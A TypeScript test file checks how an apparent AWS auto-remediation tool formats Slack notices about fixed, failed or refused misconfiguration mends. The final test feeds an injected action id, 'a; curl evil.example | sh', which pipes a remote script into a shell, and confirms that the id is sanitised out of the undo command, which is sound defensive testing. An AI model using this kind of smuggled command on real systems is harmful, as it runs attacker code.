import { assert } from 'chai';
import type { Outcome } from '../../contract/outcome.ts';
import { renderNotice } from '../../notifier/render-telling.ts';
import { ruleOf } from '../../rules/registry.ts';
import { outcomeNotice } from '../support/notices.ts';
import { assertFitsSlack } from './assert-fits-slack.ts';
import { fieldsOf, headingOf, linesOf, partOf, smallPrintOf } from './message-parts.ts';

const failure = { code: 'CHANGE_DENIED', message: 'the revoke was denied', next: 'allow it in the role' };
const console = 'https://eu-west-1.console.aws.amazon.com';
const { actionId: _, ...unrecorded } = outcomeNotice();

describe('an outcome in Slack', () => {
  it('says what was mended, where, who caused it, why it matters, what was done and how to undo it', () => {
    const message = renderNotice(outcomeNotice());

    assert.equal(headingOf(message), ':wrench: Mended: security group sg-0a1b2c3d4e5f60718');
    assert.deepEqual(fieldsOf(message), {
      Where: `<${console}/ec2/home?region=eu-west-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718|sg-0a1b2c3d4e5f60718> web frontend\n\`111122223333\` \`eu-west-1\``,
      'Caused by': `\`user/sam\`\n<${console}/cloudtrailv2/home?region=eu-west-1#/events?ResourceName=sg-0a1b2c3d4e5f60718|CloudTrail event history>`,
      'Rule (critical)': '`security-group-restricted-ports`',
      When: '`2026-11-20 10:15:30 UTC`',
    });
    assert.deepEqual(linesOf(message, 'What was wrong'), ['tcp/22 from 0.0.0.0/0: the whole IPv4 internet']);
    assert.equal(partOf(message, 'Why it matters:'), ruleOf('security-group-restricted-ports')?.risk);
    assert.deepEqual(linesOf(message, 'What was done'), [
      '- tcp 20-25 from 0.0.0.0/0',
      '+ tcp 20 from 0.0.0.0/0',
      '+ tcp 23-25 from 0.0.0.0/0',
      '  tcp 443 from 0.0.0.0/0',
    ]);
    assert.equal(partOf(message, 'To undo it:'), '`configmend restore 2026-11-20T10-15-30Z-7f3a`');
    assert.equal(
      message.text,
      'Mended: security group `sg-0a1b2c3d4e5f60718` in `111122223333` `eu-west-1` (critical)',
    );
    assertFitsSlack(message);
  });

  it('names the call that CloudTrail saw, where it came from, and leads to it', () => {
    const evidence = { eventName: 'AuthorizeSecurityGroupIngress', sourceAddress: '198.51.100.7', eventId: 'event-1' };

    const { 'Caused by': cause } = fieldsOf(renderNotice(outcomeNotice({ evidence })));

    assert.equal(
      cause,
      `\`user/sam\`\n\`AuthorizeSecurityGroupIngress\`\nfrom \`198.51.100.7\`\n<${console}/cloudtrailv2/home?region=eu-west-1#/events/event-1|CloudTrail event>`,
    );
  });

  const headings: [Outcome, string, string][] = [
    ['mended', ':wrench: Mended: ', 'What was wrong'],
    ['partly-mended', ':warning: Partly mended: ', 'What was found'],
    ['failed', ':x: Mend failed: ', 'What is wrong'],
    ['refused', ':no_entry: Refused, left as it is: ', 'What is wrong'],
    ['exempt', ':shield: Exempt, left as it is: ', 'What is wrong'],
    ['contested', ':repeat: Keeps coming back, left to people: ', 'What is wrong'],
    ['nothing-to-do', ':white_check_mark: Nothing to do: ', 'What is wrong'],
  ];
  for (const [outcome, heading, title] of headings) {
    const changed = outcome === 'mended' || outcome === 'partly-mended';

    it(`says what ${outcome} is, and what was ${changed ? 'done' : 'left undone'}`, () => {
      const message = renderNotice({ ...unrecorded, outcome });

      assert.isTrue(headingOf(message).startsWith(heading));
      assert.isNotEmpty(linesOf(message, title));
      assert.isNotEmpty(linesOf(message, changed ? 'What was done' : 'What a mend would change'));
      assert.isEmpty(linesOf(message, changed ? 'What a mend would change' : 'What was done'));
    });
  }

  it('says that there is nothing to undo where nothing was changed', () => {
    const message = renderNotice({ ...unrecorded, outcome: 'failed' });

    assert.deepEqual(smallPrintOf(message), ['Nothing was changed, so there is nothing to undo.']);
    assert.notInclude(JSON.stringify(message), 'configmend restore');
  });

  it('names the undo of a failure that may have taken effect', () => {
    const message = renderNotice(outcomeNotice({ outcome: 'failed', failure }));

    assert.equal(
      partOf(message, 'To undo it, if it took effect after all:'),
      '`configmend restore 2026-11-20T10-15-30Z-7f3a`',
    );
  });

  it('says what stopped it and what to do next', () => {
    const message = renderNotice(outcomeNotice({ outcome: 'failed', failure }));

    assert.equal(partOf(message, 'What stopped it:'), '`CHANGE_DENIED` the revoke was denied');
    assert.equal(partOf(message, 'Next:'), 'allow it in the role');
    assert.isTrue(message.text.endsWith('(critical): `CHANGE_DENIED`'));
  });

  it('says that nobody knows who, lists several rules, and why the two worst matter', () => {
    const rules = ['s3-bucket-logging', 's3-bucket-public-access', 's3-bucket-tls-only', 'of-another-release'];
    const { actor, ...notice } = outcomeNotice({ rules });
    assert.isDefined(actor);

    const message = renderNotice(notice);

    const { 'Caused by': cause = '', 'Rules (critical)': named } = fieldsOf(message);
    assert.isTrue(cause.startsWith('not known\n<https://'), cause);
    assert.equal(named, rules.map((rule) => `\`${rule}\``).join('\n'));
    const risks = ['s3-bucket-public-access', 's3-bucket-tls-only'].map((id) => ruleOf(id)?.risk);
    assert.equal(partOf(message, 'Why it matters:'), risks.join(' '));
  });

  const partitions: [string, string][] = [
    ['eu-west-1', 'eu-west-1.console.aws.amazon.com'],
    ['cn-north-1', 'cn-north-1.console.amazonaws.cn'],
    ['us-gov-west-1', 'us-gov-west-1.console.amazonaws-us-gov.com'],
  ];
  for (const [region, host] of partitions) {
    it(`leads to the console of the partition of ${region}, in that region`, () => {
      const { resource } = outcomeNotice();
      const bucket = { ...resource, type: 'AWS::S3::Bucket', id: 'logs', region, tags: {} } as const;

      const { Where: where, 'Caused by': cause } = fieldsOf(renderNotice(outcomeNotice({ resource: bucket })));

      const url = `https://${host}/s3/buckets/logs?region=${region}&amp;tab=permissions`;
      assert.equal(where, `<${url}|logs>\n\`111122223333\` \`${region}\``);
      assert.include(cause, `<https://${host}/cloudtrailv2/home?region=${region}#`);
    });
  }

  it('shows no command that a shell would take for more than one', () => {
    const message = renderNotice(outcomeNotice({ actionId: 'a; curl evil.example | sh' }));

    assert.equal(partOf(message, 'To undo it:'), '`configmend restore ACTION`');
  });
});
